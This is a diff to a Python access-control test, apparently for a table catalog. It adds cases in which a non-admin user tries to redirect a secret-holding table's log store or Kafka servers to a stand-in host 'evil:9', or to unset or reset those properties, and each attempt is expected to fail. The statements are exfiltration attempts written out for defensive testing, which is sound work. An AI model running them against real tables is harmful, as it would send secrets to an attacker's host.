@@ -186,8 +186,16 @@ def test_no_statement_shows_a_secret_of_a_table(
 def test_only_an_admin_takes_secrets_to_another_table_or_address(
     writer: Terminal, admin: Terminal, table_with_secrets: str, warehouse: str
 ) -> None:
-    error = run(writer, f"ALTER TABLE {table_with_secrets} SET TBLPROPERTIES ('log-store.address' = 'evil:9')")
-    assert "would be sent there" in str(error.snapshot().error)
+    for change in (
+        "SET TBLPROPERTIES ('log-store.address' = 'evil:9')",
+        "SET TBLPROPERTIES ('kafka.bootstrap.servers' = 'evil:9')",
+        "SET TBLPROPERTIES ('Kafka.Bootstrap.Servers' = 'evil:9')",
+        "SET TBLPROPERTIES ('log.system' = 'pulsar')",
+        "UNSET TBLPROPERTIES ('kafka.bootstrap.servers')",
+        "RESET ('log.system')",
+    ):
+        error = run(writer, f"ALTER TABLE {table_with_secrets} {change}")
+        assert "would be sent there" in str(error.snapshot().error), change
     with connect(warehouse=warehouse) as lake:
         text = f"ALTER TABLE {table_with_secrets} UNSET TBLPROPERTIES ('dlf.token')"
         assert lake.sql(text) is not None
